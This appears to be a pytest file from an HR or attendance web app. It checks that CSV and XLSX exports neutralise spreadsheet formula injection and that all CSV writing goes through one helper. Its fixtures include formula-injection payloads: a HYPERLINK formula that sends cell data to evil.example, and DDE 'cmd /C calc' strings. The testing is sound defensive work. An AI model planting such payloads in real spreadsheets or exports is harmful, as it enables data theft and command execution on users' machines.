"""Every CSV and XLSX the app writes neutralises text a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from common.tabular import RowError, csv_bytes, errors_csv, safe_cell, xlsx_append, xlsx_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.mark.parametrize(
    "text",
    [
        HYPERLINK,
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
        "-",
        "+62 812",
    ],
)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-5, -2.5, 0, 12, dt.date(2025, 12, 1), None, "-5", "+62", "-12.50", "Budi", "a=b"]
)
def test_numbers_dates_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_csv_bytes_and_errors_csv_neutralise_names_and_file_names():
    rows = list(
        csv.reader(io.StringIO(csv_bytes([["nama"], [HYPERLINK], [-3]]).decode("utf-8-sig")))
    )
    assert rows == [["nama"], ["'" + HYPERLINK], ["-3"]]
    error = RowError(file="=cmd|' /C calc'!A0.csv", row=2, column="nama", message="@bad")
    rows = list(csv.reader(io.StringIO(errors_csv([error]).decode("utf-8-sig"))))
    assert rows[1] == ["'=cmd|' /C calc'!A0.csv", "2", "nama", "'@bad"]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_text_cells_are_strings_never_formulas_and_numbers_stay_numbers(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("s") if write_only else wb.active
    xlsx_append(ws, [HYPERLINK, "#N/A", -5, 2.5, dt.date(2025, 12, 1), None])
    out = io.BytesIO()
    wb.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[-1]
    cells = list(sheet.iter_rows())[0]
    assert [c.data_type for c in cells[:4]] == ["s", "s", "n", "n"]
    assert [c.value for c in cells[:4]] == ["'" + HYPERLINK, "#N/A", -5, 2.5]


def test_a_template_workbook_holds_no_formula():
    book = load_workbook(io.BytesIO(xlsx_bytes({"s": [["nama"], [HYPERLINK]]})))
    cell = book["s"]["A2"]
    assert (cell.data_type, cell.value) == ("s", "'" + HYPERLINK)


def test_no_module_writes_a_csv_but_through_the_helper():
    """csv.writer only in common/tabular.py (and bulk.py's COPY buffer, read by PostgreSQL)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    allowed = {root / "common" / "tabular.py", root / "common" / "bulk.py"}
    apps = ["accounts", "api", "attendance", "common", "config", "demo", "evaluation", "leave"]
    apps += ["opd", "selfservice", "wfh"]
    found = [
        path.relative_to(root).as_posix()
        for app in apps
        for path in (root / app).rglob("*.py")
        if path not in allowed
        and ("csv.writer(" in path.read_text() or "DictWriter(" in path.read_text())
    ]
    assert found == []
